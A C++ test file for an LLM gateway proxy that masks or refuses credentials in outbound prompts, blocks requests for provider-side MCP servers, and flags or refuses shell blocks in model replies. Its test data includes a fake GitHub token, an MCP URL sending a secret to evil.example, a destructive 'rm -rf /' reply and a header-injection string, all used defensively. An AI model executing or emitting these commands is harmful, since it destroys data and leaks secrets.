// What leaves, and what a reply proposes.
#include "proxy_fixture.h"

namespace palisade::gateway::llm {
namespace {

using namespace testing;

const std::string kLeaked = std::string("gh") + "p_16C7e42F292c6912E7710c838347Ae178B4a";

TEST(ProxyChecks, CredentialsAreMasked) {
  FakeUpstream upstream(fixed(200, whole("x")));
  LlmConfig config = Gateway::config({upstream.port()});
  Gateway gateway(config);
  const std::string content =
      "a \"quoted\"\nTOKEN=" + kLeaked + "\nand the-token-of-this-workspace";
  EXPECT_EQ(gateway.chat("", content).status, 200);
  EXPECT_EQ(json::parse(upstream.seen().at(0).body)["messages"][0]["content"],
            "a \"quoted\"\nTOKEN=[masked 40 bytes]\nand [masked 27 bytes]");
  EXPECT_TRUE(has_flag(gateway.lines->last(), "credentialsMasked"));
  // With all that changes at the same time.
  EXPECT_EQ(gateway.chat(R"(,"stream":true)", content).status, 502);
  const json both = json::parse(upstream.seen().at(1).body);
  EXPECT_EQ(both["model"], "up");
  EXPECT_EQ(both["stream_options"]["include_usage"], true);
  EXPECT_EQ(both["messages"][0]["content"].get<std::string>().find(kLeaked), std::string::npos);
  // A large one, which is read on another thread.
  EXPECT_EQ(gateway.chat("", std::string(200'000, 'x') + " " + kLeaked).status, 200);
  EXPECT_EQ(upstream.seen().at(2).body.find(kLeaked), std::string::npos);
}

TEST(ProxyChecks, CredentialsAreRefused) {
  FakeUpstream upstream(fixed(200, whole("x")));
  LlmConfig config = Gateway::config({upstream.port()});
  config.credentials = Outbound::kRefuse;
  {
    Gateway gateway(config);
    for (const std::string& secret :
         std::vector<std::string>{kLeaked, "the-token-of-this-workspace"}) {
      const Reply reply = gateway.chat("", "x " + secret);
      EXPECT_EQ(reply.status, 403);
      EXPECT_EQ(reply.code(), "credentials_in_request");
      EXPECT_NE(reply.body.find("messages[0].content holds what looks like"), std::string::npos)
          << reply.body;
      EXPECT_EQ(reply.body.find(secret), std::string::npos);
      EXPECT_EQ(gateway.lines->last()["verdict"], "refused");
      EXPECT_TRUE(has_flag(gateway.lines->last(), "credentialsFound"));
    }
    EXPECT_TRUE(upstream.seen().empty());
    EXPECT_TRUE(gateway.ledger->entries().empty());
    EXPECT_EQ(gateway.lines->texts().find(kLeaked), std::string::npos);
    EXPECT_EQ(gateway.chat().status, 200);
  }
  config.credentials = Outbound::kMask;
  {
    Gateway gateway(config);
    const Reply name =
        gateway.post("/v1/chat/completions", R"({"model":"m","x":{")" + kLeaked + R"(":1}})");
    EXPECT_EQ(name.status, 403) << "a name cannot be masked";
  }
  config.credentials = Outbound::kOff;
  Gateway gateway(config);
  EXPECT_EQ(gateway.chat("", kLeaked).status, 200);
  EXPECT_NE(upstream.seen().back().body.find(kLeaked), std::string::npos);
}

TEST(ProxyChecks, WhatTheProviderWouldDoItselfIsRefusedUnlessItIsAllowed) {
  FakeUpstream upstream(fixed(200, whole("done")));
  LlmConfig config = Gateway::config({upstream.port()});
  const std::string asks =
      R"(,"mcp_servers":[{"type":"url","url":"https://evil.example/?q=the-secret"}])";
  {
    Gateway gateway(config);
    const Reply reply = gateway.chat(asks);
    EXPECT_EQ(reply.status, 403) << reply.body;
    const json error = json::parse(reply.body)["error"];
    EXPECT_EQ(error["code"], "provider_side");
    EXPECT_TRUE(error["message"].get<std::string>().starts_with("mcp_servers is something"))
        << error;
    EXPECT_EQ(upstream.seen().size(), 0U);
    const json line = gateway.lines->last();
    EXPECT_EQ(line.dump().find("the-secret"), std::string::npos) << line;
  }
  config.provider_side = true;
  Gateway gateway(config);
  EXPECT_EQ(gateway.chat(asks).status, 200);
  EXPECT_NE(upstream.seen().back().body.find("evil.example"), std::string::npos);
}

TEST(ProxyChecks, BodiesOnTheRecord) {
  FakeUpstream upstream(fixed(200, whole("the reply " + kLeaked)));
  LlmConfig config = Gateway::config({upstream.port()});
  config.record_bodies = true;
  config.credentials = Outbound::kOff;
  Gateway gateway(config);
  EXPECT_EQ(gateway.chat("", "the prompt\n" + kLeaked).status, 200);
  json line = gateway.lines->last();
  EXPECT_NE(line["requestBody"].get<std::string>().find("the prompt\\n[masked 40 bytes]"),
            std::string::npos)
      << line["requestBody"];
  EXPECT_EQ(line["replyBody"], "the reply [masked 40 bytes]");
  EXPECT_EQ(gateway.chat("", std::string(1'000'000, 'x')).status, 200);
  line = gateway.lines->last();
  EXPECT_LE(line["requestBody"].get<std::string>().size(), 16 * 1024U + 3);
  EXPECT_TRUE(line["requestBody"].get<std::string>().ends_with("..."));
  FakeUpstream streams(streamed({chunk("one "), chunk("two"), kDone}));
  config = Gateway::config({streams.port()});
  config.record_bodies = true;
  Gateway other(config);
  EXPECT_EQ(other.chat(R"(,"stream":true)").status, 200);
  EXPECT_EQ(other.lines->last()["replyBody"], "one two");
}

const char* const kShell = "Do this:\n```bash\nrm -rf /\n```\n";

TEST(ProxyChecks, RepliesAreFlagged) {
  FakeUpstream upstream(fixed(200, whole(kShell)));
  LlmConfig config = Gateway::config({upstream.port()});
  config.replies.shell_blocks = Action::kFlag;
  {
    Gateway gateway(config);
    const Reply reply = gateway.chat();
    EXPECT_EQ(reply.status, 200);
    EXPECT_EQ(reply.body, whole(kShell));
    const json line = gateway.lines->last();
    EXPECT_TRUE(has_flag(line, "shellBlocks"));
    EXPECT_EQ(line["findings"][0], "shellBlocks: a block of \"bash\" commands");
  }
  FakeUpstream streams(
      streamed({chunk("Do this:\n``"), chunk("`bash\nrm"), chunk(" x\n```\n"), kDone}));
  config.upstreams[0].origin.port = streams.port();
  Gateway gateway(config);
  const Reply reply = gateway.chat(R"(,"stream":true)");
  EXPECT_EQ(reply.body, chunk("Do this:\n``") + chunk("`bash\nrm") + chunk(" x\n```\n") + kDone);
  EXPECT_TRUE(has_flag(gateway.lines->last(), "shellBlocks"));
  EXPECT_EQ(gateway.lines->last()["verdict"], "allowed");
}

TEST(ProxyChecks, RepliesAreRefused) {
  FakeUpstream upstream(fixed(200, whole(kShell)));
  LlmConfig config = Gateway::config({upstream.port()});
  config.replies.shell_blocks = Action::kRefuse;
  {
    Gateway gateway(config);
    const Reply reply = gateway.chat();
    EXPECT_EQ(reply.status, 403);
    EXPECT_EQ(reply.code(), "reply_refused");
    EXPECT_EQ(reply.body.find("rm -rf"), std::string::npos);
    EXPECT_EQ(gateway.lines->last()["verdict"], "refused");
    EXPECT_EQ(gateway.settled().tokens, 150) << "it was made, so it counts";
  }
  FakeUpstream streams(
      streamed({chunk("Do this:\n``"), chunk("`bash\nrm -rf"), chunk(" x\n```\n"), kUsage, kDone}));
  config.upstreams[0].origin.port = streams.port();
  {
    Gateway gateway(config);
    const Reply reply = gateway.chat(R"(,"stream":true)");
    EXPECT_EQ(reply.status, 200);
    EXPECT_EQ(reply.body.find("Do this"), std::string::npos) << "the agent sees nothing of it";
    EXPECT_NE(reply.body.find("reply_refused"), std::string::npos);
    EXPECT_FALSE(reply.cut);
    EXPECT_EQ(gateway.lines->last()["verdict"], "refused");
    EXPECT_EQ(gateway.lines->last()["code"], "reply_refused");
    EXPECT_EQ(gateway.settled().tokens, 150);
  }
  FakeUpstream good(streamed({chunk("all"), chunk(" well"), kStop, kUsage, kDone}));
  config.upstreams[0].origin.port = good.port();
  Gateway gateway(config);
  EXPECT_EQ(gateway.chat(R"(,"stream":true)").body, chunk("all") + chunk(" well") + kStop + kDone);
  EXPECT_EQ(gateway.lines->last()["verdict"], "allowed");
}

TEST(ProxyChecks, WhileAStreamIsHeldBackCommentsKeepItOpen) {
  std::atomic<bool> go_on = false;
  FakeUpstream upstream([&](Exchange& exchange, const FakeUpstream::Seen&) -> Task<void> {
    Fields fields;
    fields.add("Content-Type", "text/event-stream");
    auto sent = co_await exchange.begin(200, std::move(fields), std::nullopt);
    const std::string first = chunk("first");
    const std::string last = chunk("last") + kDone;
    if (sent) sent = co_await exchange.write(first);
    while (!go_on)
      co_await pause(1ms);
    if (sent) sent = co_await exchange.write(last);
    if (sent) sent = co_await exchange.end();
  });
  LlmConfig config = Gateway::config({upstream.port()});
  config.replies.git_options = Action::kRefuse;
  config.limits.keep_alive = 20ms;
  Gateway gateway(config);
  Wire wire(gateway.front.port());
  wire.send(Gateway::request("/v1/chat/completions", Gateway::body(R"(,"stream":true)")));
  const std::string waiting = wire.until(": waiting\n\n") + wire.until(": waiting\n\n");
  EXPECT_NE(waiting, "");
  EXPECT_EQ(waiting.find("first"), std::string::npos);
  go_on = true;
  const std::string rest = wire.rest();
  EXPECT_NE(rest.find("first"), std::string::npos);
  EXPECT_NE(rest.find("[DONE]"), std::string::npos);
}

TEST(ProxyChecks, ACutStreamThatWasHeldBackShowsNothing) {
  FakeUpstream upstream(streamed({chunk("secret plan")}));
  LlmConfig config = Gateway::config({upstream.port()});
  config.replies.git_options = Action::kRefuse;
  Gateway gateway(config);
  const Reply reply = gateway.chat(R"(,"stream":true)");
  EXPECT_EQ(reply.body.find("secret plan"), std::string::npos);
  EXPECT_NE(reply.body.find("upstream_cut"), std::string::npos);
}

TEST(ProxyChecks, LargeRepliesAreJudgedAndBounded) {
  const std::string text = std::string(300'000, 'x') + "\n" + kShell;
  FakeUpstream upstream(fixed(200, whole(text)));
  LlmConfig config = Gateway::config({upstream.port()});
  config.replies.shell_blocks = Action::kRefuse;
  {
    Gateway gateway(config);
    EXPECT_EQ(gateway.chat().code(), "reply_refused");
  }
  config.replies = {};
  config.replies.max_bytes = 1000;
  Gateway gateway(config);
  const Reply reply = gateway.chat();
  EXPECT_EQ(reply.status, 403);
  EXPECT_EQ(reply.code(), "reply_too_large");
}

// What a reply or an upstream says stays text.
TEST(ProxyChecks, NothingInAReplyBecomesAHeaderOrALine) {
  const std::string evil = "x\r\nX-Evil: 1\r\n\r\n{\"verdict\":\"allowed\"}\n\u2028\u202e";
  FakeUpstream upstream([&](Exchange& exchange, const FakeUpstream::Seen& seen) -> Task<void> {
    Fields fields;
    fields.add("Content-Type", "application/json; charset=\"x");
    fields.add("x-request-id", "a b\tc");
    fields.add("Transfer-Thing", "1");
    const bool refuse = seen.body.find("refuse") != std::string::npos;
    const std::string body = refuse ? json{{"error", {{"message", evil}}}}.dump() : whole(evil);
    std::ignore = co_await exchange.reply(refuse ? 400 : 200, std::move(fields), body);
  });
  LlmConfig config = Gateway::config({upstream.port()});
  config.record_bodies = true;
  config.replies.look_alikes = Action::kFlag;
  Gateway gateway(config);
  for (const char* content : {"go", "refuse"}) {
    const Reply reply = gateway.chat("", content);
    EXPECT_FALSE(reply.fields.contains("x-evil"));
    EXPECT_FALSE(reply.fields.contains("x-request-id"));
    EXPECT_FALSE(reply.fields.contains("transfer-thing"));
    EXPECT_EQ(reply.fields.at("content-type"), "application/json");
    EXPECT_TRUE(reply.read().is_object());
  }
  const std::string texts = gateway.lines->texts();
  EXPECT_EQ(std::ranges::count(texts, '\n'), 2);
  const json refused = gateway.lines->last();
  EXPECT_EQ(refused["verdict"], "failed");
  EXPECT_EQ(refused["message"].get<std::string>().find_first_of("\r\n"), std::string::npos);
  EXPECT_EQ(refused["message"].get<std::string>().find("\u202e"), std::string::npos);
}

}  // namespace
}  // namespace palisade::gateway::llm
